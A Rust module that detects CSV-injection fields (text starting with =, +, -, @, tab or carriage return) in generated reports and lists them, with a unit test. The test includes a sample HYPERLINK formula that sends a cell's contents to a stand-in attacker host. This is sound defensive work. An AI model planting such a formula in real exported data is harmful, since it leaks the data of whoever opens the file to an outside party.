//! Fields that a spreadsheet would evaluate as a formula when it opens a CSV file (CSV injection,
//! as OWASP describes it): text starting with `=`, `+`, `-`, `@`, a tab or a carriage return.
//! The CSV files keep them exact; report.md and report.html list them and point to report.xlsx.

use super::tables::{reports, Value};
use crate::plan::Plan;

/// How many rows of each file the reports name; the rest are only counted.
pub const LISTED_ROWS: usize = 20;

pub fn would_evaluate(text: &str) -> bool {
    // The first characters that make a spreadsheet read a CSV field as a formula; all ASCII, so
    // the first byte is one of them only as a whole character.
    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// A field a spreadsheet would evaluate: its data row (1 = the first row after the header),
/// its column and its text.
pub struct Risky {
    pub row: u64,
    pub column: &'static str,
    pub text: String,
}

/// One report file holding such fields.
pub struct RiskyFile {
    pub file: &'static str,
    /// Rows with at least one such field.
    pub rows: u64,
    /// The first `LISTED_ROWS` fields.
    pub listed: Vec<Risky>,
}

impl RiskyFile {
    pub fn new(file: &'static str) -> RiskyFile {
        RiskyFile { file, rows: 0, listed: Vec::new() }
    }

    /// Notes the fields of data row `index` (0-based) that a spreadsheet would evaluate.
    pub fn observe(&mut self, index: usize, header: &'static [&'static str], row: &[Value]) {
        let mut risky_row = false;
        for (column, value) in header.iter().zip(row) {
            // A uuid starts with a hex digit: a spreadsheet never evaluates it.
            if let Value::Text(Some(text)) = value {
                if would_evaluate(text) {
                    risky_row = true;
                    if self.listed.len() < LISTED_ROWS {
                        self.listed.push(Risky { row: index as u64 + 1, column, text: text.to_string() });
                    }
                }
            }
        }
        self.rows += u64::from(risky_row);
    }
}

/// Every report file with fields a spreadsheet would evaluate, in report order (the CSV writer
/// finds the same while it writes them).
pub fn risky_files(plan: &Plan) -> crate::Result<Vec<RiskyFile>> {
    let mut files = Vec::new();
    for report in reports(plan) {
        let mut found = RiskyFile::new(report.file);
        let mut index = 0;
        (report.rows)(&mut |rows| {
            for row in rows {
                found.observe(index, report.header, row);
                index += 1;
            }
            Ok(())
        })?;
        if found.rows > 0 {
            files.push(found);
        }
    }
    Ok(files)
}

#[cfg(test)]
mod tests {
    #[test]
    fn formula_starts_are_found_and_plain_text_is_not() {
        for text in ["=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"details\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
        {
            assert!(super::would_evaluate(text), "{text:?}");
        }
        for text in ["", "1.0.0", "a=b", " =x", "'=x", "\nx"] {
            assert!(!super::would_evaluate(text), "{text:?}");
        }
    }
}
